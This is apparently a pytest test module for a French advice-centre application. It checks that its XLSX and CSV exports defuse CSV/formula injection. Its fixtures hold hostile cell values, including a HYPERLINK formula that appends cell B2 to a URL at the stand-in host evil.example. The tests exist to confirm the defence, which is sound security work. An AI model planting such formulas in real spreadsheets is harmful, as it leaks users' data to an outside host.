"""No text becomes a formula in any spreadsheet SIEC Desk writes (CSV or formula
injection, redteam HIGH-2, documents review 16 and 35).

One centre holds hostile text everywhere a spreadsheet shows text: its name, its
advisors, its communes (named in the network export), a household's name and notes.
Every writer (activity report, network export XLSX and CSV, the coordinator's report
made from that centre's file, the rejected rows of an import) is read back: no formula
cell, no ``<f>`` element, each hostile text kept as text (CSV: behind one quote)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import insert, update
from testkit.contexts import make_ctx

from siec_desk.documents.activity_report.xlsx import report_workbook
from siec_desk.documents.engine import safe_cells
from siec_desk.documents.import_report import rejected_csv, write_rejected
from siec_desk.documents.network_export.render_csv import csv_bytes
from siec_desk.documents.network_export.render_xlsx import xlsx_bytes
from siec_desk.domain.activity_period import month
from siec_desk.importing.plan_records import ImportReport
from siec_desk.importing.rows import RowProblem
from siec_desk.network.coordinator.database import open_network_database
from siec_desk.services.app import AppContext
from siec_desk.services.network.coordinator import NetworkCoordinator
from siec_desk.services.network.export import ExportOptions
from siec_desk.storage.models import Advisor, Centre, Consultation, ConsultationTheme, Household

HOSTILE = (
    '=HYPERLINK("http://x/?"&B2,"y")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "\rx",
)
CENTRE_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Cliquez")'
PER_COMMUNE = 40  # named in the export at k = 3 over one month (max(10k, k·months) = 30)
NOVEMBER = date(2026, 11, 1)


def as_read(text: str) -> str:
    """What an XML reader gives back: XML turns a carriage return into a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture(scope="module")
def hostile_centre(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AppContext]:
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SIEC_DESK_HOME", str(folder / "home"))
        ctx = make_ctx(folder / "centre.sqlite3", "FR", CENTRE_NAME)
        with ctx.db.write() as session:
            session.execute(update(Centre).values(network_code="ECFR-13"))
            centre_id = session.query(Centre.id).scalar()
            advisors = [
                session.execute(
                    insert(Advisor).values(centre_id=centre_id, display_name=name)
                ).inserted_primary_key[0]
                for name in HOSTILE
            ]
            session.execute(
                insert(Household),
                [
                    {"id": 9000 + n, "first_name": name, "last_name": name, "country": "FR"}
                    for n, name in enumerate(HOSTILE)
                ],
            )
            cid = 9000
            for n, name in enumerate(HOSTILE):
                for i in range(PER_COMMUNE):
                    cid += 1
                    session.execute(
                        insert(Consultation).values(
                            id=cid,
                            household_id=9000 + n if i == 0 else None,
                            advisor_id=advisors[n],
                            occurred_at=datetime(2026, 11, 1 + i % 28, 9, 0),
                            duration_min=15,
                            mode="phone",
                            act="info",
                            commune=name,
                            postal_code="13001",
                            notes=name,
                        )
                    )
                    session.execute(
                        insert(ConsultationTheme).values(consultation_id=cid, theme="heating")
                    )
        yield ctx
        ctx.close()


def _export(ctx: AppContext) -> object:
    return ctx.network_export.build(ExportOptions(NOVEMBER, NOVEMBER, threshold=3))


def _activity_report(ctx: AppContext, _folder: Path) -> bytes:
    return report_workbook(ctx.reports.monthly(month(NOVEMBER), "fr"))


def _network_xlsx(ctx: AppContext, _folder: Path) -> bytes:
    return xlsx_bytes(_export(ctx), lambda code: code)  # type: ignore[arg-type]


def _network_csv(ctx: AppContext, _folder: Path) -> bytes:
    return csv_bytes(_export(ctx))  # type: ignore[arg-type]


def _network_report(ctx: AppContext, folder: Path) -> bytes:
    """The coordinator's workbook, made from this centre's own export file."""
    path = folder / "centre.json"
    ctx.network_export.write(_export(ctx), path)  # type: ignore[arg-type]
    db = open_network_database(folder / "network.sqlite3")
    try:
        coordinator = NetworkCoordinator(db)
        outcome = coordinator.import_file(path)
        assert outcome is not None
        return coordinator.report("xlsx", "fr", today=date(2026, 12, 7))
    finally:
        db.close()


def _rejected_rows(_ctx: AppContext, folder: Path) -> bytes:
    report = ImportReport(dry_run=True)
    for line, text in enumerate(HOSTILE, start=2):
        report.rejected.append(RowProblem(line, "last_name", text, text))
    path = write_rejected(report, folder / "rejected-rows.csv")
    return path.read_bytes()


def _named_communes(ctx: AppContext) -> tuple[str, ...]:
    """The hostile communes as the export names them (it may tidy a commune's spelling:
    "/" and runs of blanks), each still starting with its formula character."""
    named = {
        code.split("/", 1)[1]
        for table in _export(ctx).tables  # type: ignore[attr-defined]
        for key in table.cells
        for code in key
        if "/" in code
    }
    risky = tuple(sorted(c for c in named if safe_cells.is_risky(c)))
    assert len(risky) >= 4, named  # = + - @ at least
    return risky


@dataclass(frozen=True)
class Writer:
    kind: str  # "xlsx" or "csv"
    make: Callable[[AppContext, Path], bytes]
    #: the hostile texts the file must show
    texts: Callable[[AppContext], tuple[str, ...]] = lambda _ctx: HOSTILE


WRITERS = {
    "activity-report": Writer("xlsx", _activity_report, lambda _ctx: (*HOSTILE, CENTRE_NAME)),
    "network-export-xlsx": Writer("xlsx", _network_xlsx, _named_communes),
    "network-export-csv": Writer("csv", _network_csv, _named_communes),
    "network-report": Writer("xlsx", _network_report, _named_communes),
    "rejected-rows": Writer("csv", _rejected_rows),
}


def _xlsx_texts(data: bytes) -> list[str]:
    """Every cell's text; fails on a formula or error cell, or an ``<f>`` anywhere."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    texts = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_fields(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    fields = [f for row in csv.reader(io.StringIO(text), delimiter=delimiter) for f in row]
    risky = [f for f in fields if f.startswith(safe_cells.FORMULA_STARTS)]
    assert risky == []
    return fields


@pytest.mark.parametrize("name", list(WRITERS))
def test_no_writer_turns_text_into_a_formula(
    name: str, hostile_centre: AppContext, tmp_path: Path
) -> None:
    writer = WRITERS[name]
    data = writer.make(hostile_centre, tmp_path)
    if writer.kind == "xlsx":
        texts = _xlsx_texts(data)
        for hostile in writer.texts(hostile_centre):
            assert any(as_read(hostile) in t for t in texts), (name, hostile)
    else:
        fields = _csv_fields(data)
        for hostile in writer.texts(hostile_centre):
            assert any(f"'{hostile}" in f or f"/{hostile}" in f for f in fields), (name, hostile)


def test_the_rejected_rows_file_is_private_and_whole(tmp_path: Path) -> None:
    report = ImportReport(dry_run=True)
    report.rejected.append(RowProblem(3, "phone", "+33 6 12 34 56 78", "bad phone"))
    path = write_rejected(report, tmp_path / "rejected.csv")
    assert path.stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rejected.csv"]  # no .partial
    assert "'+33 6 12 34 56 78" in path.read_text("utf-8-sig")
    assert rejected_csv(report) == path.read_bytes()


# -- the helper itself ---------------------------------------------------------------------
def _round_trip(values: list[object]) -> list[object]:
    book = Workbook()
    ws = book.active
    assert ws is not None
    safe_cells.append(ws, values)
    out = io.BytesIO()
    book.save(out)
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert back is not None
    cells = next(iter(back.iter_rows(max_col=len(values))))
    assert all(c.data_type not in ("f", "e") for c in cells)
    return [c.value for c in cells]


def test_numbers_and_dates_keep_their_types() -> None:
    when = datetime(2026, 11, 20, 9, 30)
    values = _round_trip([-2, -2.5, 0, 10**12, when, Decimal("-3.25"), "#N/A", "-2+3", None])
    assert values == [-2, -2.5, 0, 10**12, when, -3.25, "#N/A", "-2+3", None]
    assert safe_cells.csv_row([-2, -2.5, "-2", "x-1", None]) == [-2, -2.5, "'-2", "x-1", None]


def test_characters_xml_cannot_hold_are_dropped_not_fatal() -> None:
    assert _round_trip(["a\x00b\x07c\x1bd", "é\u202e"]) == ["abcd", "é\u202e"]


@given(st.text(max_size=40))
def test_any_text_comes_back_as_the_same_text(text: str) -> None:
    expected = as_read(safe_cells.xlsx_text(text))
    [value] = _round_trip([text])
    assert (value or "") == expected
    quoted = safe_cells.csv_value(text)
    assert not quoted.startswith(safe_cells.FORMULA_STARTS)
    assert quoted in (text, "'" + text)
